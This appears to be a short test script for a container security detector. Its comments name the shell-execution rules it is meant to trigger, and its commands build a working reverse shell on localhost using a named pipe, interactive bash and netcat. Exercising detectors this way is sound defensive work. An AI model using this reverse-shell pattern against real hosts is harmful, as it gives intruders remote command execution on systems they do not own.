# in: container
# fires: execution-pipe-made execution-pipe-shell execution-relayed-shell execution-shell-without-terminal
sleep 2 | nc -l -p 4444 &
sleep 0.3
mkfifo /tmp/way
bash -i < /tmp/way 2>&1 | nc -w 2 127.0.0.1 4444 > /tmp/way
